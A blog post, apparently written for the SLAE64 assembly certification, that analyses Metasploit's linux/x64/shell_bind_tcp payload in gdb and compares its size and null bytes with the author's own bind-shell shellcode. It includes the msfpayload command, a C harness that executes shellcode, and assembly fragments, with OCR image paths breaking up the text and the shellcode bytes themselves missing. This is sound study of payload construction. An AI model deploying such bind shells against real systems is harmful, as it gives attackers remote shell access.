Saturday, December 20, 2014

A Look at the linux/x64/shell_bind_tcp Metasploit Payload

After I finished micro optimizing my bind TCP port shellcode, I remembered that Metasploit offers one. The msfpayload generated one which weighs in at 86 bytes and the payload always contains null-bytes, even if your port does not have one.  Even though the version I created already had 81 bytes, I thought there might be something to learn from Metasploit's version.

root@kali:~/# msfpayload linux/x64/shell_bind_tcp RPORT=4444 C
 * linux/x64/shell_bind_tcp - 86 bytesI threw this into a C file.

unsigned char sc[] =

    (*(void(*)()) sc)();

I compiled it: gcc -m64 -z execstack msfbind.c

I then started up: gdb ./a.out

0x00000000004004ba in main ()
7: /x $rdi = 0x1
6: /x $rsi = 0x7fffffffe428
5: /x $rdx = 0x600880
4: /x $rcx = 0x0
3: /x $rbx = 0x0
2: /x $rax = 0x0
1: x/i $rip
=> 0x4004ba <main+14>:    callq  *%rdx

I discovered they were able to shrink their register fixing and first syscall into 12 bytes, whereas mine was 13.  Here is a high level look at what they did to accomplish this:

push   0x29
pop    rax
push   0x2
pop    rdi
push   0x1
pop    rsi

You can compare that with my version, which uses the xor esi, esi and mul esi to clear 3 registers.  Here the same is done with cdq to clear out the pollution, and then qword pushes popped directly into the registers. In a future release of my own shellcode I would make this change.

Next though, we come across one of the first instances of a null-byte.  It is part of the struct sock_addr that is used, where the port and address family is specified.

0x000000000060088f in sc ()
7: /x $rdi = 0x7
6: /x $rsi = 0x1
5: /x $rdx = 0x04: /x $rcx = 0xffffffffffffffff
3: /x $rbx = 0x0
2: /x $rax = 0x2
1: x/i $rip
=> 0x60088f <sc+15>:    movl   $0x5c110002,(%rsp)

When I was writing my own shellcode, I had to make a sacrifice. I probably could have shrunk even more bytes if I didn't make the PORT configurable.  However, doing so may be the reason I went about things differently, and 0'd out that area of the struct by pushing a 0 register twice. This is definitely less bytes, but of course has the null.

The next parts of this shellcode are all pretty standard.  I didn't see too much more I could do in terms of shrinkage, and my own execution was very similar to this payload's.

I did want to point out another area though where the null-byte is used, as theterminator for the "/bin/sh" string. I got around this by first pushing a 0 register on the stack, and then naming the string "//bin/sh" to fill in the extra byte.

(gdb) x/i $rip
=> 0x6008c1 <sc+65>:    movabs $0x68732f6e69622f,%rbx
(gdb) x/3x $rip
0x6008c1 <sc+65>:0x622fbb48    0x732f6e69    0x48530068
(gdb) .

This blog post has beencreated for completing the requirements of the SecurityTube Linux Assembly Expertcertification.

Student ID: SLAE64 - 1360No comments :

Post a Comment